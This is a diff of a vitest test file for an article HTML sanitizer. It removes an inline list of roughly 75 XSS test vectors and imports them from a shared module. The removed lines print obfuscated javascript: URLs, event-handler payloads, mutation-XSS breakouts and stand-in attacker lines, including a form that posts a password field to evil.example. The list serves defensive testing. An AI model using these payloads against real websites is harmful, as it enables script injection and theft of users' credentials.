@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { sanitizeArticleHtml } from '../../server/modules/articles/sanitize';
+import { XSS_VECTORS as XSS } from '../setup/xss-vectors';
 
 /** What no stored article body may contain, however the attack was spelled. */
 function expectHarmless(html: string) {
@@ -15,119 +16,6 @@ function expectHarmless(html: string) {
   expect(html).not.toMatch(/\bsrcdoc\b/i);
   expect(html).not.toMatch(/expression\s*\(/i);
 }
-
-const XSS: [string, string][] = [
-  ['script tag', '<p>Hi</p><script>alert(1)</script>'],
-  ['script tag, upper case', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
-  [
-    'script with attributes and type',
-    '<script type="module">import("https://evil.example")</script>',
-  ],
-  ['img onerror', '<img src="x" onerror="alert(1)">'],
-  ['img onerror without quotes', '<img src=x onerror=alert(1)//>'],
-  ['https img with onerror', '<img src="https://cdn.example/a.jpg" onerror="alert(1)">'],
-  ['img onload, odd spacing', '<img src="/media/a.jpg"\nonload\t=\n"alert(1)">'],
-  ['svg onload', '<svg onload="alert(1)"><circle r="10"/></svg>'],
-  ['svg with a script inside', '<svg><script>alert(1)</script></svg>'],
-  [
-    'svg animate href',
-    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
-  ],
-  ['javascript: href', '<a href="javascript:alert(1)">click</a>'],
-  ['javascript: href, mixed case', '<a href="JaVaScRiPt:alert(1)">click</a>'],
-  ['javascript: href with leading space', '<a href="  javascript:alert(1)">click</a>'],
-  ['javascript: href with a tab inside', '<a href="java\tscript:alert(1)">click</a>'],
-  ['javascript: href with a newline inside', '<a href="java\nscript:alert(1)">click</a>'],
-  [
-    'javascript: href, decimal entities',
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  ],
-  ['javascript: href, hex entity', '<a href="jav&#x61;script:alert(1)">x</a>'],
-  ['javascript: href, padded entities', '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'],
-  ['javascript: href, named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
-  ['javascript: href, control character', '<a href="\u0001javascript:alert(1)">x</a>'],
-  ['data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
-  ['data: href, mixed case', '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>'],
-  ['data: img', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
-  ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
-  ['vbscript: href, mixed case', '<a href="VbScRiPt:msgbox(1)">x</a>'],
-  ['iframe from another host', '<iframe src="https://evil.example/embed/x"></iframe>'],
-  ['iframe, javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
-  [
-    'iframe, host lookalike',
-    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
-  ],
-  [
-    'iframe, userinfo trick',
-    '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
-  ],
-  ['iframe, http YouTube', '<iframe src="http://www.youtube.com/embed/abc"></iframe>'],
-  [
-    'iframe, YouTube page not an embed',
-    '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
-  ],
-  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
-  [
-    'iframe srcdoc beside an allowed src',
-    '<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>"></iframe>',
-  ],
-  [
-    'iframe onload beside an allowed src',
-    '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"></iframe>',
-  ],
-  ['style expression', '<p style="width: expression(alert(1))">x</p>'],
-  ['style url(javascript:)', '<p style="background:url(javascript:alert(1))">x</p>'],
-  [
-    'style with text-align and url()',
-    '<p style="text-align:center; background-image:url(javascript:alert(1))">x</p>',
-  ],
-  ['style tag', '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'],
-  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
-  [
-    'object',
-    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
-  ],
-  ['object with data: url', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
-  ['embed', '<embed src="https://evil.example/x.swf">'],
-  [
-    'form and input',
-    '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
-  ],
-  ['input autofocus onfocus', '<input autofocus onfocus="alert(1)">'],
-  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
-  ['base href', '<base href="https://evil.example/">'],
-  ['event handler on a paragraph', '<p onclick="alert(1)">x</p>'],
-  ['event handler on a heading', '<h2 onmouseover="alert(1)">x</h2>'],
-  ['event handler on a link', '<a href="https://ok.example" onclick="alert(1)">x</a>'],
-  ['event handler on a table cell', '<table><tr><td onmouseenter="alert(1)">x</td></tr></table>'],
-  ['event handler on blockquote', '<blockquote onanimationstart="alert(1)">x</blockquote>'],
-  ['event handler, upper case', '<p ONCLICK="alert(1)">x</p>'],
-  ['http: image', '<img src="http://cdn.example/a.jpg">'],
-  ['protocol-relative image', '<img src="//evil.example/a.jpg">'],
-  ['protocol-relative link', '<a href="//evil.example/">x</a>'],
-  ['protocol-relative iframe', '<iframe src="//www.youtube.com/embed/abc"></iframe>'],
-  ['nested script tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
-  ['script split by a tag', '<<script>script>alert(1)<</script>/script>'],
-  ['unclosed script', '<script>alert(1)'],
-  ['unclosed img attribute', '<img src="https://a.example/a.jpg" onerror="alert(1)'],
-  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
-  ['textarea breakout', '<textarea><img src=x onerror=alert(1)></textarea>'],
-  ['title breakout', '<title><img src=x onerror=alert(1)></title>'],
-  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
-  ['CDATA trick', '<![CDATA[<script>alert(1)</script>]]>'],
-  ['math mglyph confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
-  ['template', '<template><script>alert(1)</script></template>'],
-  ['attribute without quotes, slash separator', '<img/src="x"/onerror="alert(1)">'],
-  [
-    'a with formaction-like attrs',
-    '<a href="https://ok.example" style="position:fixed;top:0" onfocus="alert(1)" autofocus tabindex="1">x</a>',
-  ],
-  ['xlink href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
-  ['body onload', '<body onload="alert(1)"><p>x</p></body>'],
-  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
-  ['video onerror', '<video src="x" onerror="alert(1)"></video>'],
-  ['audio with source', '<audio><source src="x" onerror="alert(1)"></audio>'],
-];
 
 describe('sanitizeArticleHtml: what must never survive', () => {
   it.each(XSS)('%s', (_name, html) => {
